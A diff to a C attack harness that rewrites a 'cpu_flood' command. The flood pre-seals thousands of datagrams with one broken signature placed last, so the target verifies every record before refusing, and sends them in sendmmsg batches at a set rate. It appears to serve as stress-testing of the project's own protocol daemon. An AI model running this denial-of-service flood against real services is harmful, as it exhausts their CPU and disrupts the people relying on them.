@@ -7,10 +7,15 @@
  * it does not hold and an 8th with a broken signature, so the datagram is
  * refused after all 8 checks and the same records stay unknown forever.
  */
+/* sendmmsg: the build defines _GNU_SOURCE */
+#include <arpa/inet.h>
+#include <errno.h>
+#include <netinet/in.h>
 #include <sodium.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
+#include <sys/socket.h>
 
 #include "att.h"
 #include "proto/envelope.h"
@@ -129,15 +134,23 @@ int cmd_sybil(const struct att_opts *o)
 	return 0;
 }
 
-enum { FLOOD_IDS = 64, FLOOD_VARIANTS = 8 };
+enum { FLOOD_IDS = 64, FLOOD_VARIANTS = 8, FLOOD_RING = 4096, FLOOD_BATCH = 64 };
 
+/*
+ * The datagrams are sealed up front (FLOOD_RING distinct nonces, cycled)
+ * and sent with sendmmsg, so the attacker spends almost nothing per
+ * datagram and the offered rate is what the victim sees, even on a busy
+ * machine. A repeat of a ring entry is an exact duplicate: a victim with
+ * a replay cache may drop it cheaply, which is a fair defence.
+ */
 int cmd_flood(const struct att_opts *o)
 {
 	static struct att a;
 	static struct wire_record recs[FLOOD_IDS];
-	static uint8_t plain[FLOOD_VARIANTS][WIRE_MAX_PLAINTEXT];
-	size_t plen[FLOOD_VARIANTS];
+	static uint8_t ring[FLOOD_RING][WIRE_MAX_DATAGRAM];
+	static size_t ring_len[FLOOD_RING];
 	struct wire_addr to, ep;
+	struct sockaddr_in dst;
 	double seconds = o->seconds > 0 ? o->seconds : 10;
 	long rate = o->rate > 0 ? o->rate : 20000;
 	struct wire_msg *m = malloc(sizeof(*m));
@@ -157,39 +170,60 @@ int cmd_flood(const struct att_opts *o)
 		small_record(&recs[i], &idn, name, &ep);
 		sodium_memzero(&idn, sizeof(idn));
 	}
-	for (int v = 0; v < FLOOD_VARIANTS; v++) {
-		int n;
+	for (int i = 0; i < FLOOD_RING; i++) {
+		int v = i % FLOOD_VARIANTS;
 
 		msg_init(m, WIRE_RECORDS, recs[v].id);
 		for (int k = 0; k < WIRE_MAX_RECORDS; k++)
 			m->record[m->n_records++] = recs[(v * 7 + k) % FLOOD_IDS];
 		/* The last one's signature is broken: verified last, refuses all. */
 		m->record[WIRE_MAX_RECORDS - 1].sig[0] ^= 1;
-		n = msg_encode(m, plain[v], sizeof(plain[v]));
-		if (n < 0)
-			att_die("msg_encode: %s", wire_strerror(n));
-		plen[v] = (size_t)n;
+		ring_len[i] = seal_msg(&a, m, ring[i]);
 	}
+	memset(&dst, 0, sizeof(dst));
+	dst.sin_family = AF_INET;
+	dst.sin_port = htons(to.port);
+	memcpy(&dst.sin_addr, to.ip, 4);
 	t0 = att_now_ms();
 	end = t0 + (uint64_t)(seconds * 1000);
 	for (;;) {
-		uint64_t now = att_now_ms();
-		uint8_t out[WIRE_MAX_DATAGRAM], nonce[WIRE_NONCE_LEN];
-		int v = (int)(sent % FLOOD_VARIANTS), s;
+		uint64_t now = att_now_ms(), due;
+		struct mmsghdr msgs[FLOOD_BATCH];
+		struct iovec iov[FLOOD_BATCH];
+		unsigned n;
+		int r;
 
 		if (now >= end)
 			break;
-		/* Paced: never ahead of rate * elapsed. */
-		if (sent >= (now - t0) * (uint64_t)rate / 1000) {
+		/* Paced: never ahead of rate * elapsed; catch up without sleeping. */
+		due = (now - t0) * (uint64_t)rate / 1000;
+		if (sent >= due) {
 			att_sleep_ms(1);
 			continue;
 		}
-		randombytes_buf(nonce, sizeof(nonce));
-		s = envelope_seal(out, sizeof(out), plain[v], plen[v], a.key, nonce);
-		if (s < 0)
-			att_die("envelope_seal");
-		att_send_raw(&a, &to, out, (size_t)s);
-		sent++;
+		n = due - sent < FLOOD_BATCH ? (unsigned)(due - sent) : FLOOD_BATCH;
+		memset(msgs, 0, sizeof(msgs));
+		for (unsigned k = 0; k < n; k++) {
+			size_t slot = (sent + k) % FLOOD_RING;
+
+			iov[k].iov_base = ring[slot];
+			iov[k].iov_len = ring_len[slot];
+			msgs[k].msg_hdr.msg_iov = &iov[k];
+			msgs[k].msg_hdr.msg_iovlen = 1;
+			msgs[k].msg_hdr.msg_name = &dst;
+			msgs[k].msg_hdr.msg_namelen = sizeof(dst);
+		}
+		r = sendmmsg(a.fd, msgs, n, 0);
+		if (r < 0) {
+			if (errno != ENOBUFS && errno != EAGAIN && errno != ECONNREFUSED)
+				att_die("sendmmsg: %s", strerror(errno));
+			att_sleep_ms(1);
+			continue;
+		}
+		for (int k = 0; k < r; k++)
+			a.sent_bytes += iov[k].iov_len;
+		a.sent_dgrams += (uint64_t)r;
+		sent += (uint64_t)r;
 	}
 	att_report("item=7 attack=cpu_flood datagrams=%llu bytes=%llu seconds=%.1f offered_rate=%ld "
 		   "achieved_dps=%.0f",
